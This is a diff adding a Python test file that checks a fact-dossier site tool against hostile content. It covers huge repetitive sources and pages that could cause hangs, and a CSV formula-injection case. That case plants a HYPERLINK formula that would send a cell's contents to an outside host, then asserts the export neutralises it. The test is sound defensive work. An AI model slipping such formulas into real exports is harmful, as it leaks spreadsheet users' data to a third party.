@@ -1,0 +1,79 @@
+"""Hostile text in content: a source of one word repeated, and a long quote it does not hold; never a hang."""
+import contextlib
+import signal
+
+from tests.test_invalid import run_dossier
+from tests.test_update import _project
+
+FRONT = "---\ntitle: Echo\noutlet: unknown\nauthor: unknown\npublished: unknown\nlanguage: en\n---\n"
+
+
+@contextlib.contextmanager
+def hang_guard(seconds: int):
+    """Fail the block (rather than wait for ever) when it has not ended after ``seconds``: a guard against a hang,
+    far above the time the block takes, not a speed goal."""
+    def stop(*_):
+        raise AssertionError(f"still running after {seconds} s")
+    previous = signal.signal(signal.SIGALRM, stop)
+    signal.alarm(seconds)
+    try:
+        yield
+    finally:
+        signal.alarm(0)
+        signal.signal(signal.SIGALRM, previous)
+
+
+def test_a_long_quote_not_in_a_source_of_one_word_repeated_is_reported_at_once(tmp_path):
+    """Comparing a quote not found with its closest passage was far worse than linear in the quote's length in such
+    a source (minutes for a quote of 1,000 words in 2 MB): only its start is aligned, its first 200 words compared."""
+    root = _project(tmp_path)
+    (root / "content" / "sources" / "echo.md").write_text(FRONT + "a " * 200_000 + "\n")
+    card = root / "content" / "facts" / "ceasefire.yml"
+    card.write_text(card.read_text() + f"  - source: echo\n    quote: {'a ' * 1000}b\n    stance: states\n")
+    with hang_guard(120):
+        run = run_dossier(root, "check")
+    assert run.returncode == 1 and "Traceback" not in run.stderr, run.stderr
+    assert run.stderr.startswith("1. content/facts/ceasefire.yml:20:5: quote not found in source 'echo'; the closest "
+                                 "passage (content/sources/echo.md:8) reads \"a a a"), run.stderr
+    assert ("its first 200 words and marks are the source's, so the difference is further on; cite the passage in "
+            "pieces (a list of quotes) to find it. Copy the words exactly") in run.stderr
+
+
+def test_a_source_of_a_hundred_thousand_paragraphs_is_checked_without_a_hang(tmp_path):
+    """The line of each paragraph was counted from the top of the source, for each paragraph: 2 MB of one-line
+    paragraphs took minutes. The lines named are still right."""
+    root = _project(tmp_path)
+    (root / "content" / "sources" / "echo.md").write_text(FRONT + "Buffalo buffalo.\n\n" * 110_000 + "The end.\n")
+    card = root / "content" / "facts" / "ceasefire.yml"
+    card.write_text(card.read_text() + "  - source: echo\n    quote: The end here.\n    stance: states\n")
+    with hang_guard(60):
+        run = run_dossier(root, "check")
+    assert run.stderr.startswith("1. content/facts/ceasefire.yml:20:5: quote not found in source 'echo'; the closest "
+                                 "passage (content/sources/echo.md:220008) reads \"The end.\""), run.stderr
+
+
+def test_a_page_of_one_heading_repeated_is_built_without_a_hang(tmp_path):
+    """Each repeated heading tried every number from 1 for its id (mdit-py-plugins' anchors): 20,000 took 47 s, the
+    300,000 that fit in 2 MB hours. Ids stay those the plugin gave."""
+    root = _project(tmp_path)
+    (root / "content" / "pages" / "about.md").write_text("---\ntitle: About\n---\n" + "## Background\n\n" * 30_000)
+    with hang_guard(120):
+        run = run_dossier(root, "build")
+    assert run.returncode == 0, run.stderr
+    page = (root / "site" / "about.html").read_text()
+    assert 'id="background"' in page and 'id="background-1"' in page and 'id="background-29999"' in page
+
+
+def test_a_statement_a_spreadsheet_would_run_is_exported_as_text(tmp_path):
+    """facts.csv opened in a spreadsheet: '=HYPERLINK(…)' would be a live formula; an apostrophe makes it text."""
+    import csv
+    root = _project(tmp_path)
+    card = root / "content" / "facts" / "ceasefire.yml"
+    formula = '=HYPERLINK("https://example.org/?"&A1,"Details")'
+    card.write_text(card.read_text().replace("statement: Smith said a cease-fire was agreed, starting on Sunday.",
+                                             f"statement: '{formula}'"))
+    assert run_dossier(root, "build").returncode == 0
+    with (root / "site" / "exports" / "facts.csv").open(newline="") as file:
+        statements = {row["fact"]: row["statement"] for row in csv.DictReader(file)}
+    assert statements["ceasefire"] == "'" + formula
+    assert not any(s.startswith(("=", "+", "-", "@")) for s in statements.values())
